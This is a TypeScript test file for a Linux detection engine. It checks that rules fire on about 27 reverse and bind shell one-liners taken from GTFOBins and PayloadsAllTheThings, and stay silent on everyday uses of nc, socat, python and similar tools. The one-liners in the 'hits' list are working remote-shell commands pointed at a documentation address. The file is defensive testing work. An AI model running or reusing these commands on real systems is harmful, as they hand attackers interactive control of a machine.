// Class "interpreter network primitives in argv" (issue 21): reverse and bind shells written as
// one-liners. Command lines come from public sources, cited beside each case; hosts and ports are
// replaced by documentation addresses.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import type { ProcessRecord } from '../../../../agent/sources/types.js';
import { Harness, firer } from './harness.js';

type P = Partial<ProcessRecord> & { name: string };
const h = new Harness('linux');
const fire = firer(h, h.engine({ baseline: { enabled: false } }));
const run = (name: string, commandLine: string, extra: Partial<ProcessRecord> = {}): P => ({ name, executable: `/usr/bin/${name}`, commandLine, ...extra });
const login = run('bash', '-bash');

const hits: { rule: string; p: P; source: string }[] = [
  // GTFOBins awk, reverse-shell-non-interactive (gawk /inet/ special file, host built by concatenation)
  { rule: 'pw-reverse-shell-cmdline', p: run('awk', 'awk -v RHOST=203.0.113.9 -v RPORT=12345 BEGIN {\n s = "/inet/tcp/0/" RHOST "/" RPORT;\n while (1) {printf "> " |& s; if ((s |& getline c) <= 0) break;\n while (c && (c |& getline) > 0) print $0 |& s; close(c)}}'), source: 'GTFOBins awk reverse shell' },
  // GTFOBins awk, bind-shell-non-interactive
  { rule: 'pw-reverse-shell-cmdline', p: run('gawk', 'gawk -v LPORT=12345 BEGIN { s = "/inet/tcp/" LPORT "/0/0"; while (1) {printf "> " |& s; if ((s |& getline c) <= 0) break; while (c && (c |& getline) > 0) print $0 |& s; close(c)}}'), source: 'GTFOBins awk bind shell' },
  // Elastic detection-rules rta/reverse_shell.py (rule "Potential Reverse Shell Activity via Terminal")
  { rule: 'pw-reverse-shell-cmdline', p: run('bash', 'bash -c "bash -i >/dev/tcp/127.0.0.1/4444" 0>&1'), source: 'Elastic RTA reverse_shell.py' },
  // PayloadsAllTheThings Reverse Shell Cheatsheet, Bash UDP (referenced by Elastic's rule d0e45f6c)
  { rule: 'pw-reverse-shell-cmdline', p: run('sh', 'sh -i >& /dev/udp/203.0.113.9/4242 0>&1'), source: 'PayloadsAllTheThings bash UDP' },
  // PayloadsAllTheThings, Netcat Traditional -c
  { rule: 'pw-reverse-shell-cmdline', p: run('nc', 'nc -c bash 203.0.113.9 4242'), source: 'PayloadsAllTheThings nc -c' },
  // PayloadsAllTheThings, Ncat -e
  { rule: 'pw-reverse-shell-cmdline', p: run('ncat', 'ncat 203.0.113.9 4242 -e /bin/bash'), source: 'PayloadsAllTheThings ncat -e' },
  // PayloadsAllTheThings, BusyBox nc
  { rule: 'pw-reverse-shell-cmdline', p: run('busybox', 'busybox nc 203.0.113.9 4242 -e sh'), source: 'PayloadsAllTheThings busybox nc -e' },
  // ncat(1) manual, --sh-exec
  { rule: 'pw-reverse-shell-cmdline', p: run('ncat', 'ncat --sh-exec "/bin/sh -i" 203.0.113.9 4242'), source: 'ncat --sh-exec' },
  // PayloadsAllTheThings, Netcat OpenBsd (mkfifo)
  { rule: 'pw-reverse-shell-cmdline', p: run('sh', 'sh -c rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 203.0.113.9 4242 >/tmp/f'), source: 'PayloadsAllTheThings mkfifo + nc' },
  // PayloadsAllTheThings, Netcat BusyBox (mknod)
  { rule: 'pw-reverse-shell-cmdline', p: run('sh', 'sh -c rm -f /tmp/f;mknod /tmp/f p;cat /tmp/f|/bin/sh -i 2>&1|nc 203.0.113.9 4242 >/tmp/f'), source: 'PayloadsAllTheThings mknod + nc' },
  // GTFOBins openssl reverse shell (fifo + s_client)
  { rule: 'pw-reverse-shell-cmdline', p: run('sh', 'sh -c mkfifo /tmp/s; /bin/sh -i < /tmp/s 2>&1 | openssl s_client -quiet -connect 203.0.113.9:12345 > /tmp/s; rm /tmp/s'), source: 'GTFOBins openssl reverse shell' },
  // Elastic rule "Openssl Client or Server Activity" describes s_client as a C2 channel; piped shell form
  { rule: 'pw-reverse-shell-cmdline', p: run('sh', 'sh -c openssl s_client -quiet -connect 203.0.113.9:443 | /bin/bash 2>&1 | openssl s_client -quiet -connect 203.0.113.9:8443'), source: 'openssl s_client piped to bash' },
  // GTFOBins telnet reverse shell
  { rule: 'pw-reverse-shell-cmdline', p: run('sh', 'sh -c TF=$(mktemp -u); mkfifo $TF && telnet 203.0.113.9 12345 0<$TF | /bin/sh 1>$TF'), source: 'GTFOBins telnet reverse shell' },
  // GTFOBins socat reverse shell (lower-case exec:)
  { rule: 'pw-reverse-shell-cmdline', p: run('socat', 'socat tcp-connect:203.0.113.9:12345 exec:/bin/sh,pty,stderr,setsid,sigint,sane'), source: 'GTFOBins socat reverse shell' },
  // PayloadsAllTheThings, Socat (upper-case EXEC:)
  { rule: 'pw-reverse-shell-cmdline', p: run('socat', 'socat TCP:203.0.113.9:4242 EXEC:sh'), source: 'PayloadsAllTheThings socat EXEC:' },
  // socat(1) manual, SYSTEM: address type (address keywords are case-insensitive); bind form
  { rule: 'pw-reverse-shell-cmdline', p: run('socat', 'socat TCP-LISTEN:4444,reuseaddr,fork System:/bin/bash'), source: 'socat man page SYSTEM: address' },
  // PayloadsAllTheThings, Python (IPv4)
  { rule: 'pw-interpreter-reverse-shell', p: run('python3', 'python3 -c import socket,subprocess,os;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);s.connect(("203.0.113.9",4242));os.dup2(s.fileno(),0); os.dup2(s.fileno(),1);os.dup2(s.fileno(),2);import pty; pty.spawn("/bin/bash")'), source: 'PayloadsAllTheThings python' },
  // GTFOBins python reverse shell (multi-line code)
  { rule: 'pw-interpreter-reverse-shell', p: run('python', 'python -c import sys,socket,os,pty;s=socket.socket()\ns.connect((os.getenv("RHOST"),int(os.getenv("RPORT"))))\n[os.dup2(s.fileno(),fd) for fd in (0,1,2)]\npty.spawn("/bin/sh")'), source: 'GTFOBins python reverse shell' },
  // PayloadsAllTheThings, Perl
  { rule: 'pw-interpreter-reverse-shell', p: run('perl', 'perl -e use Socket;$i="203.0.113.9";$p=4242;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,">&S");open(STDOUT,">&S");open(STDERR,">&S");exec("/bin/sh -i");};'), source: 'PayloadsAllTheThings perl' },
  // PayloadsAllTheThings, Perl IO::Socket (no parentheses around system)
  { rule: 'pw-interpreter-reverse-shell', p: run('perl', 'perl -MIO -e $p=fork;exit,if($p);$c=new IO::Socket::INET(PeerAddr,"203.0.113.9:4242");STDIN->fdopen($c,r);$~->fdopen($c,w);system$_ while<>;'), source: 'PayloadsAllTheThings perl IO::Socket' },
  // PayloadsAllTheThings, Ruby
  { rule: 'pw-interpreter-reverse-shell', p: run('ruby', 'ruby -rsocket -e f=TCPSocket.open("203.0.113.9",4242).to_i;exec sprintf("/bin/sh -i <&%d >&%d 2>&%d",f,f,f)'), source: 'PayloadsAllTheThings ruby' },
  // PayloadsAllTheThings, PHP
  { rule: 'pw-interpreter-reverse-shell', p: run('php', 'php -r $sock=fsockopen("203.0.113.9",4242);exec("/bin/sh -i <&3 >&3 2>&3");'), source: 'PayloadsAllTheThings php' },
  // PayloadsAllTheThings, Lua
  { rule: 'pw-interpreter-reverse-shell', p: run('lua', 'lua -e require(\'socket\');require(\'os\');t=socket.tcp();t:connect(\'203.0.113.9\',\'4242\');os.execute(\'/bin/sh -i <&3 >&3 2>&3\');'), source: 'PayloadsAllTheThings lua' },
  // GTFOBins node reverse shell
  { rule: 'pw-interpreter-reverse-shell', p: run('node', 'node -e sh = require("child_process").spawn("/bin/sh");\nnet.connect(process.env.RPORT, process.env.RHOST, function () {\n this.pipe(sh.stdin);\n sh.stdout.pipe(this);\n sh.stderr.pipe(this);\n});'), source: 'GTFOBins node reverse shell' },
  // GTFOBins node bind shell
  { rule: 'pw-interpreter-reverse-shell', p: run('node', 'node -e sh = require("child_process").spawn("/bin/sh");\nrequire("net").createServer(function (client) {\n client.pipe(sh.stdin);\n sh.stdout.pipe(client);\n sh.stderr.pipe(client);\n}).listen(process.env.LPORT);'), source: 'GTFOBins node bind shell' },
  // Falco rule "Redirect STDOUT/STDIN to Network Connection in Container" (dup of a socket onto fd 0-2): a shell
  // whose stdin is a TCP socket, whatever its argv
  { rule: 'pw-lnx-shell-tcp-stdin', p: { name: 'sh', executable: '/bin/sh', commandLine: 'sh', stdin: 'tcp' }, source: 'Falco stdin redirected to a network connection' },
  // The same Falco rule's stdout case: PayloadsAllTheThings' mkfifo shells read the fifo (a pipe) and
  // write to the connection when the shell's output is redirected to it (sh -i < /tmp/f > /dev/tcp/...)
  { rule: 'pw-lnx-shell-tcp-stdin', p: { name: 'sh', executable: '/bin/sh', commandLine: 'sh -i', stdin: 'pipe', stdout: 'tcp' }, source: 'Falco stdout redirected to a network connection' },
];

// Administrators' and scripts' everyday use of the same tools.
const misses: P[] = [
  run('python3', 'python3 -c import socket; print(socket.gethostname())'),
  run('python3', 'python3 -c import socket,sys; s=socket.create_connection((sys.argv[1], 5432), timeout=2); s.close()'),
  run('nc', 'nc -zv db.internal 5432'),
  run('nc', 'nc -l 8080'),
  run('socat', 'socat - UNIX-CONNECT:/var/run/docker.sock'),
  run('openssl', 'openssl s_client -connect example.org:443 -servername example.org'),
  run('mkfifo', 'mkfifo /run/app/control'),
  run('node', 'node -e require("child_process").execSync("git rev-parse HEAD")'),
  run('php', 'php -r echo phpversion();'),
  run('perl', 'perl -e print "hello\\n"'),
  run('awk', 'awk -F: {print $1} /etc/passwd'),
  run('ruby', 'ruby -e puts RUBY_VERSION'),
  run('bash', 'bash -c exec 3</dev/null'),
  { name: 'sh', executable: '/bin/sh', commandLine: 'sh', stdin: 'socket' },
  { name: 'sh', executable: '/bin/sh', commandLine: 'sh', stdin: 'pipe', stdout: 'socket' },
];

for (const c of hits) {
  test(`${c.rule}: ${c.source}`, () => {
    assert.ok(fire(login, c.p).includes(c.rule), `expected ${c.rule} on ${String(c.p.commandLine)}`);
  });
}

test('everyday network tool and interpreter command lines raise no reverse shell alert', () => {
  for (const p of misses) {
    const got = fire(login, p).filter((r) => ['pw-reverse-shell-cmdline', 'pw-interpreter-reverse-shell', 'pw-lnx-shell-tcp-stdin'].includes(r));
    assert.deepEqual(got, [], String(p.commandLine));
  }
});
